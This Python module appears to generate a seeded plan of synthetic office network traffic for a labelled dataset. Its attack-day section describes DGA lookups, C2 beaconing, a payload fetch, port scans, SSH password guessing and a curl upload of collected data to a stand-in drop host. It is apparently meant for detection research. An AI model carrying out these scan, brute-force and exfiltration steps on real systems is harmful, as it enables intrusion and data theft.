"""The seeded plan: who does what, and when in the sample's calendar.

A plan is a list of activities, plain dicts with `host`, `t` (seconds, UTC),
`kind` and what acts.py needs to do it. Activities of the attack day that are
part of an attack carry a `label`. The same seed gives the same plan.
"""

import math
import random
import string

from world import (ATTACK_DAY, BROWSERS, C2_NAME, CLIENTS, DAY, DOMAIN, DROP_NAME, FIRST_DAY,
                   SERVERS, SITE, lan4)

MINUTE, HOUR = 60, 3600
APT = "Debian APT-HTTP/1.3 (2.6.1)"
# How much of what a person does on an average day.
#        web  intranet mail print ssh git cloud video
HABITS = {
    "ann": (8, 4, 5, 1.5, 0, 0, 1.0, 0.2),
    "ben": (7, 3, 2, 0.1, 4, 4, 0.3, 0.5),
    "cho": (6, 6, 4, 2.0, 0, 0, 0.5, 0.1),
    "dee": (9, 2, 3, 1.0, 1, 0, 4.0, 1.0),
    "eve": (8, 6, 6, 0.5, 0, 0, 0.5, 0.3),
    "fay": (6, 3, 2, 0.1, 5, 5, 0.3, 0.3),
    "gus": (9, 3, 5, 0.5, 0, 0, 1.0, 0.6),
    "hal": (3, 1, 0, 0.0, 0, 0, 0.0, 1.0),
}
NIGHT_OWLS = ("eve", "hal")  # their machines stay on over night
BLOBS = (20_000, 120_000, 600_000, 2_000_000)


def count(rng, mean):
    """A Poisson number."""
    limit, n, p = math.exp(-mean), 0, rng.random()
    while p > limit:
        n, p = n + 1, p * rng.random()
    return n


def web(urls, ua, *args):
    return {"kind": "web", "urls": urls, "ua": ua, "args": list(args)}


class Day:
    """One host's day; `add` collects activities."""

    def __init__(self, seed, day, host):
        self.rng = random.Random(f"{seed}/{day}/{host}")
        self.host, self.midnight = host, FIRST_DAY + day * DAY
        self.acts = []

    def add(self, t, what, label=None):
        act = {"host": self.host, "t": round(self.midnight + t, 6), **what}
        if label:
            act["label"] = label
        self.acts.append(act)

    def every(self, start, end, period, spread, make):
        t = start + self.rng.uniform(0, period)
        while t < end:
            self.add(t, make())
            t += period * self.rng.uniform(1 - spread, 1 + spread)

    def ntp(self, start, end, period):
        self.every(start, end, period, 0.1, lambda: {"kind": "ntp"})


# ---- people ---------------------------------------------------------------

def page(rng, site, ua):
    """One page view: the page itself and what it pulls in."""
    n = rng.randrange(1, 40)
    typo = rng.random() < 0.03
    path = f"missing/{n}" if typo else rng.choice(["", f"a/{n}", f"topic/{n % 7}/", f"item/{n}"])
    if site in ("www.railway.example", "weather.example"):
        paths = [path, "style.css", f"map/{n % 5}.png"]
        if rng.random() < 0.2:
            paths.append(f"old/{n}")
        if rng.random() < 0.1:
            paths.append("broken/ticker.json")
        return web([f"http://{site}/{p}" for p in paths], ua)
    scheme = "http" if rng.random() < 0.1 else "https"  # a typed address, redirected
    urls = [f"{scheme}://{site}/{path}"]
    if not typo and site == "www.daily-news.example":
        urls += ["https://static.daily-news.example/site.css", f"https://js.cdn.example/v{n % 4}.js",
                 f"https://static.daily-news.example/photo/{n}.jpg"]
        if rng.random() < 0.5:
            urls.append(f"https://ads.adnet.example/slot/{n}.js")
    elif not typo and site == "shop.example":
        urls += ["https://assets.shop.example/shop.css", f"https://img.cdn.example/p/{n}.jpg"]
    elif rng.random() < 0.35:
        urls.append("https://fonts.cdn.example/f/sans.woff2")
    return web(urls, ua)


def visit(day, t, ua):
    """A search or a bookmark, then a few page views with time to read."""
    rng = day.rng
    site = rng.choices(["www.daily-news.example", "search.example", "webmail.example", "shop.example",
                        "wiki.example", "www.railway.example", "weather.example", "bank.example",
                        "docs.teamwork.example"], [6, 6, 4, 2, 3, 2, 2, 1, 4])[0]
    for _ in range(1 + count(rng, 1.2)):
        day.add(t, page(rng, site, ua))
        if rng.random() < 0.12:
            day.add(t + 1, web(["http://ocsp.ca.example/"], ua, "-X", "POST", "-H",
                               "Content-Type: application/ocsp-request", "--data-binary",
                               "x" * 83))
        t += rng.expovariate(1 / 45) + 4
        if site == "search.example" and rng.random() < 0.6:
            site = rng.choice(["wiki.example", "shop.example", "www.daily-news.example"])


def intranet(day, t, ua):
    rng = day.rng
    host = rng.choice(["intranet", f"intranet.{DOMAIN}", f"wiki.{DOMAIN}"])
    for _ in range(1 + count(rng, 1.0)):
        n = rng.randrange(1, 25)
        scheme = "https" if rng.random() < 0.3 else "http"
        paths = [rng.choice([f"page/{n}", "", f"forms/{n % 6}.pdf", f"search?q=topic{n}"])]
        if rng.random() < 0.5:
            paths += ["theme.css", "logo.png"]
        if rng.random() < 0.06:
            paths = [rng.choice([f"missing/{n}", "private/hr", "forbidden/x"])]
        day.add(t, web([f"{scheme}://{host}/{p}" for p in paths], ua,
                       *(["-e", f"{scheme}://{host}/"] if rng.random() < 0.5 else [])))
        t += rng.expovariate(1 / 40) + 3
    if rng.random() < 0.2:
        day.add(t, web([f"http://{host}/forms/submit"], ua, "-d", "a=1&b=" + "y" * rng.randrange(400)))


def odd_lookup(rng):
    """What a resolver sees besides pages: typing errors, reverse, other types."""
    return {"kind": "dns", "args": rng.choice([
        ["www.dailynews.example", "A"], ["shop.exmaple.test", "A"], ["intranett." + DOMAIN, "A"],
        ["wpad." + DOMAIN, "A"], ["-x", "203.0.113.%d" % rng.choice([10, 20, 31, 80])],
        ["-x", lan4(rng.choice(list(CLIENTS)))], ["partner.example", "MX"],
        ["search.example", "HTTPS"], ["_ldap._tcp." + DOMAIN, "SRV"], ["partner.example", "TXT"]])}


def client_day(day):
    rng, host = day.rng, day.host
    ua = BROWSERS[host]
    web_n, intra_n, mail_n, print_n, ssh_n, git_n, cloud_n, video_n = HABITS[host]
    start = rng.gauss(8.6, 0.4) * HOUR
    end = rng.gauss(17.3, 0.5) * HOUR

    def working_time():
        while True:
            t = rng.uniform(start + 300, end)
            lunch = 12.1 * HOUR < t < 13 * HOUR
            if not lunch or rng.random() < 0.3:
                return t

    # Morning: address, clock, is there a network, who is around.
    day.add(start, {"kind": "dhcp"})
    day.add(start + 3, {"kind": "mdns"})
    day.add(start + 5, {"kind": "ntp"})
    day.add(start + 6, web(["http://connectivity.example/generate_204"], ua))
    day.add(start + 20, web(["https://chat.teamwork.example/login"], ua, "-d", "u=" + host))
    day.add(start + 45, page(rng, "webmail.example", ua))
    for _ in range(count(rng, web_n)):
        visit(day, working_time(), ua)
    for _ in range(count(rng, intra_n)):
        intranet(day, working_time(), ua)
    for _ in range(count(rng, mail_n)):
        day.add(working_time(), {"kind": "mail", "to": f"mail.{DOMAIN}", "bad": rng.random() < 0.05,
                                 "size": int(rng.lognormvariate(7.5, 1.2))})
    for _ in range(count(rng, print_n)):
        day.add(working_time(), {"kind": "print", "size": int(rng.lognormvariate(11, 0.8))})
    for _ in range(count(rng, cloud_n)):
        day.add(working_time(), web([f"https://drive.cloud.example/up/{rng.randrange(999)}"], ua,
                                    "-T", f"@blob{rng.choices(BLOBS, [5, 5, 3, 1])[0]}"))
    for _ in range(count(rng, video_n)):
        day.add(working_time(), web([f"https://video.stream.example/v/{rng.randrange(30)}.mp4"], ua,
                                    "--limit-rate", "300k"))
    for _ in range(count(rng, 1.5)):
        day.add(working_time(), odd_lookup(rng))
    for _ in range(count(rng, 0.8)):  # a bookmark to something long gone
        day.add(working_time(), rng.choice([
            {"kind": "connect", "to": "old.partner.example", "port": 443},
            {"kind": "connect", "to": "legacy.vendor.example", "port": 8443},
            {"kind": "connect", "to": f"printer.{DOMAIN}", "port": 631},
            {"kind": "connect", "to": f"files.{DOMAIN}", "port": 445}]))
    if rng.random() < 0.15:
        day.add(working_time(), web([f"https://printer.{DOMAIN}/status"], ua))
    if ssh_n:
        developer(day, working_time, ssh_n, git_n)
    # What runs without anybody asking for it.
    chat = "TeamworkDesktop/6.2 (" + ("Linux" if host in ("ben", "fay") else "Windows") + ")"
    day.every(start, end, 28 * MINUTE, 0.3, lambda: web(
        ["https://chat.teamwork.example/" + rng.choice(["poll", "presence", "sync"])], chat,
        *(["-d", "s=" + "z" * rng.randrange(300)] if rng.random() < 0.4 else [])))
    day.every(start, end, 3 * HOUR, 0.4, lambda: web(
        ["https://metrics.app.example/v1/batch"], "metrics-sdk/2.1", "-d", "m" * rng.randrange(200, 900)))
    day.every(start, end, 2.6 * HOUR, 0.3, lambda: {"kind": "mdns"})
    background = (0, 24 * HOUR) if host in NIGHT_OWLS else (start, end)
    day.ntp(*background, 2 * HOUR)
    for t in ([3.2 * HOUR] if host in NIGHT_OWLS else []) + [start + rng.uniform(600, 5000)]:
        day.add(t + rng.uniform(0, 600), web(["https://update.vendor.example/catalog.xml"],
                                             "Update-Agent/10.0"))
        if rng.random() < 0.3:
            day.add(t + 700, web([f"https://update.vendor.example/p/{rng.randrange(9)}.zip"],
                                 "Update-Agent/10.0"))


def developer(day, working_time, ssh_n, git_n):
    rng, host = day.rng, day.host
    for _ in range(count(rng, ssh_n)):
        to = rng.choice(["build", "build", "files"])
        if rng.random() < 0.6:
            day.add(working_time(), {"kind": "ssh", "user": host, "to": f"{to}.{DOMAIN}", "cmd": rng.choice(
                ["uptime", "ls -l /usr/bin", "sleep 2; ls /", "for i in 1 2 3 4 5 6; do date; sleep 0.5; done"])})
        else:
            day.add(working_time(), {"kind": "scp", "user": host, "to": f"{to}.{DOMAIN}",
                                     "up": rng.random() < 0.6, "size": rng.choice(BLOBS[:3])})
    for _ in range(count(rng, git_n)):
        if rng.random() < 0.5:
            day.add(working_time(), {"kind": "ssh", "user": "git", "to": "git.forge.example",
                                     "cmd": f"head -c {int(rng.lognormvariate(10, 1))} /dev/urandom"})
        else:
            day.add(working_time(), web(["https://git.forge.example/repo/info/refs.json"], "git/2.39.5"))
        if rng.random() < 0.6:
            day.add(working_time(), web([f"http://build.{DOMAIN}:8000/api/job/{rng.randrange(60)}.json"],
                                        "python-requests/2.32.3",
                                        *(["-X", "DELETE"] if rng.random() < 0.1 else [])))
    if rng.random() < 0.4:  # once in a while the wrong key
        day.add(working_time(), {"kind": "ssh", "user": host, "to": f"build.{DOMAIN}", "cmd": "true",
                                 "key": "wrong"})


# ---- servers --------------------------------------------------------------

def server_day(day):
    rng, host = day.rng, day.host
    if host == "printer":
        day.every(0, DAY, 4 * HOUR, 0.1, lambda: {"kind": "mdns"})
        return
    day.ntp(0, DAY, 1.7 * HOUR)
    for t in (4.2 * HOUR, 16.1 * HOUR):
        t += rng.uniform(0, 1800)
        release = "http://deb.mirror.example/debian/dists/stable/"
        day.add(t, web([release + "InRelease"], APT, *(
            ["-H", "If-Modified-Since: Sat, 28 Feb 2026 09:12:00 GMT"] if rng.random() < 0.6 else [])))
        for _ in range(count(rng, 0.5)):
            day.add(t + 30, web([f"http://deb.mirror.example/debian/pool/{rng.randrange(99)}.deb"], APT))
    if host == "www":
        day.every(6 * HOUR, 21 * HOUR, 1.2 * HOUR, 0.4, lambda: web(
            ["https://payment.example/v2/settle"], "office-shop/3.4", "-d", "p" * rng.randrange(200, 700)))
    elif host == "build":  # also watches the others
        day.every(0, DAY, 45 * MINUTE, 0.02, lambda: web(
            [f"http://intranet.{DOMAIN}/health"], "check_http/v2.3.3"))
        day.every(0, DAY, 2 * HOUR, 0.02, lambda: {"kind": "ping", "to": rng.choice(
            [lan4("gw"), lan4("files"), lan4("mail"), lan4("printer")])})
        day.every(0, DAY, 3 * HOUR, 0.02, lambda: {"kind": "connect", "to": f"mail.{DOMAIN}", "port": 25})
        day.add(2 * HOUR + rng.uniform(0, 300), {"kind": "scp", "user": "backup", "to": f"files.{DOMAIN}",
                                                 "up": True, "size": BLOBS[3]})
    elif host == "files":  # the nightly copy away from home
        for part in range(2):
            day.add(2.6 * HOUR + part * 90 + rng.uniform(0, 40), web(
                [f"https://backup.cloud.example/office/part{part}"], "restic/0.17.3",
                "-T", f"@blob{BLOBS[3]}"))
        day.add(2.5 * HOUR, {"kind": "ssh", "user": "backup", "to": f"build.{DOMAIN}", "cmd": "ls -lR /usr/lib/ssl"})
    elif host == "mail":
        for _ in range(count(rng, 9)):
            t = rng.uniform(7.5 * HOUR, 19 * HOUR)
            day.add(t, {"kind": "dns", "args": ["partner.example", "MX"]})
            day.add(t + 0.2, {"kind": "mail", "to": "mx.partner.example", "bad": rng.random() < 0.1,
                              "size": int(rng.lognormvariate(8, 1.3))})
        for _ in range(count(rng, 6)):  # is the sender on a block list?
            n = rng.randrange(1, 250)
            day.add(rng.uniform(0, DAY), {"kind": "dns", "args": [f"{n}.113.0.203.bl.mailguard.example", "A"]})


# ---- the attack day -------------------------------------------------------

def attacks(seed):
    """cho's machine is implanted, eve's is used to look around and break in."""
    cho, eve = Day(seed, ATTACK_DAY, "cho"), Day(seed, ATTACK_DAY, "eve")
    rng = random.Random(f"{seed}/attacks")

    # The implant looks for its server among made-up names, then calls home.
    for n in range(30):
        name = "".join(rng.choices(string.ascii_lowercase + string.digits, k=rng.randrange(12, 20)))
        cho.add(8 * HOUR + 5 * MINUTE + n * 2.5 + rng.random(),
                {"kind": "dns", "args": [name + ".test", "A"]}, "dga")
    t, calls = 8 * HOUR + 12 * MINUTE, 0
    while t < 17.5 * HOUR:
        cho.add(t, {"kind": "beacon", "to": C2_NAME, "lookup": calls % 6 == 0}, "beacon")
        if calls % 45 == 44:  # a task to fetch
            cho.add(t + 3, web([f"http://{C2_NAME}/t/{rng.getrandbits(48):012x}.zip"],
                               "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"), "beacon")
        t += 60 * rng.uniform(0.9, 1.1)
        calls += 1

    # A look at who is there, then all usual ports of the file server.
    neighbours = [lan4(h) for h in [*SERVERS, *CLIENTS] if h != "eve"]
    eve.add(11 * HOUR + 20 * MINUTE, {"kind": "scan", "args": [
        "-p", "22,80,443,445,3389", "--max-rate", "20", *neighbours]}, "scan")
    eve.add(11 * HOUR + 24 * MINUTE, {"kind": "scan", "args": [
        "--top-ports", "1000", "--max-rate", "30", lan4("files")]}, "scan")

    # Guessing passwords at the build server, in bursts.
    t = 15 * HOUR + 31 * MINUTE
    for _ in range(12):
        eve.add(t, {"kind": "brute", "to": lan4("build"), "connections": 16}, "bruteforce")
        t += rng.uniform(55, 100)

    # In the evening the implant carries off what it collected.
    for part, (minute, size) in enumerate(((47, 18_000_000), (51, 12_000_000))):
        cho.add(22 * HOUR + minute * MINUTE, web(
            [f"https://{DROP_NAME}/{rng.getrandbits(64):016x}/{part}"], "curl/7.55.1",
            "-T", f"@blob{size}", "--limit-rate", "600k", "--max-time", "120"), "exfiltration")
    return cho.acts + eve.acts


def quiet(act, attack_acts):
    """Eve is away from the keyboard while her machine scans and guesses.

    Two activities of one host at one time would do no harm (the shift keeps
    them apart), but the minutes around an attack are easier to read this way.
    """
    return any(a["host"] == act["host"] and a["label"] in ("scan", "bruteforce")
               and abs(a["t"] - act["t"]) < 90 for a in attack_acts)


def make_plan(seed, days=ATTACK_DAY + 1):
    attack_acts = attacks(seed) if days > ATTACK_DAY else []
    acts = []
    for day_number in range(days):
        for host in [*CLIENTS, *SERVERS]:
            if host == "gw":
                continue
            day = Day(seed, day_number, host)
            (client_day if host in CLIENTS else server_day)(day)
            acts += [a for a in day.acts if not quiet(a, attack_acts)
                     and day.midnight <= a["t"] < day.midnight + DAY]
    acts += attack_acts
    acts.sort(key=lambda a: a["t"])
    for number, act in enumerate(acts):
        act["id"] = number
        for name in [u.split("/")[2].split(":")[0] for u in act.get("urls", [])]:
            known = name in SITE or name.endswith(DOMAIN) or "." not in name or name in (
                "static.daily-news.example", "assets.shop.example")
            assert known, f"no such site: {name}"
    return acts
